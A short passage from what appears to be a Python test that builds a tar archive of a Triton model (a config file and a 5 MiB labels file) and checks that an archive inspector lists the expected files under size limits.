        for name, data in (("m/config.pbtxt", b'backend: "python"'), ("m/1/labels.txt", b"a" * (5 * MiB))):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    layout = inspect_triton_archive(path, LIMITS)
    assert layout.files == ("labels.txt",)
